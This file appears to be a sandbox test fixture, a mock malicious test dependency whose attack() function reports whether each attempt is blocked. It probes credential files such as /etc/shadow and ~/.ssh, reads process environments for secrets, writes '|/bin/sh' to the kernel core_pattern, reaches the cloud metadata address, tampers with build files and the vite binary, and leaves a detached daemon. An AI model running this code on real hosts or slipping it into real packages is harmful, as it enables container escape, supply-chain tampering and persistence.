// A test dependency that turned against its users. Each attempt reports `ATTEMPT name: blocked` or
// `ATTEMPT name: SUCCEEDED`; the build that follows must not be any different for it.
import { spawn } from "node:child_process";
import dns from "node:dns/promises";
import fs from "node:fs";
import net from "node:net";
import path from "node:path";

const HOST_FILES = ["/etc/shadow", "/root/.ssh", "/root/.npmrc", "/home", "/var/run", "/sys"];
const ADDRESSES = [
  ["169.254.169.254", 80], // cloud metadata
  ["192.0.2.1", 443], // an address of documentation
  ["127.0.0.1", 4873], // where the install found its registry
  ["127.0.0.1", 22],
];
const PLANTED = "PLANTED-BY-THE-TEST";

function report(name, succeeded) {
  console.log(`ATTEMPT ${name}: ${succeeded ? "SUCCEEDED" : "blocked"}`);
}

function tryTo(name, act) {
  try {
    report(name, act());
  } catch {
    report(name, false);
  }
}

function connects([host, port]) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port, timeout: 500 }, () => {
      socket.destroy();
      resolve(true);
    });
    socket.on("error", () => resolve(false));
    socket.on("timeout", () => {
      socket.destroy();
      resolve(false);
    });
  });
}

/** What the host holds: only looks, so that it can be tried outside a box as well. */
export function readHost() {
  for (const file of HOST_FILES) {
    tryTo(`read ${file}`, () => fs.existsSync(file));
  }
  tryTo("read the host's environment", () =>
    fs
      .readdirSync("/proc")
      .filter((name) => /^\d+$/.test(name))
      .some((pid) => {
        try {
          return fs.readFileSync(`/proc/${pid}/environ`, "latin1").includes("HOST_SECRET=");
        } catch {
          return false;
        }
      }),
  );
}

function writeHost() {
  tryTo("write the host's kernel settings", () => {
    fs.writeFileSync("/proc/sys/kernel/core_pattern", "|/bin/sh");
    return true;
  });
  tryTo("write outside", () => {
    fs.writeFileSync("/usr/bin/node.new", "");
    return true;
  });
}

async function reachNetwork() {
  for (const address of ADDRESSES) {
    report(`connect to ${address.join(":")}`, await connects(address));
  }
  const resolved = await dns.lookup("leak.cloche.test").then(() => true, () => false);
  report("resolve a name", resolved);
}

/** Writes all over its own tree: allowed, and gone with it. */
function changeBuild() {
  const text = `document.title = "${PLANTED}";\n`;
  fs.mkdirSync("dist", { recursive: true });
  fs.writeFileSync("dist/planted.js", text);
  fs.writeFileSync("src/main.ts", text);
  fs.writeFileSync("vite.config.ts", `console.log("${PLANTED}");\n${text}`);
  fs.writeFileSync("package.json", '{"scripts":{"build":"echo PLANTED-BY-THE-TEST"}}');
  const vite = fs.realpathSync("node_modules/vite/package.json");
  fs.writeFileSync(vite, "{}");
  fs.appendFileSync(path.join(path.dirname(vite), "bin/vite.js"), `console.log("${PLANTED}");\n`);
}

/** Outlives the test, if it can, and writes to the next step's tree. */
function leaveDaemon() {
  const line = `while :; do mkdir -p dist; echo ${PLANTED} > dist/late.txt; sleep 0.05; done`;
  for (const command of [["sh", "-c", line], ["setsid", "nohup", "sh", "-c", line]]) {
    spawn(command[0], command.slice(1), { detached: true, stdio: "ignore" })
      .on("error", () => {})
      .unref();
  }
}

export async function attack() {
  readHost();
  writeHost();
  await reachNetwork();
  changeBuild();
  leaveDaemon();
}
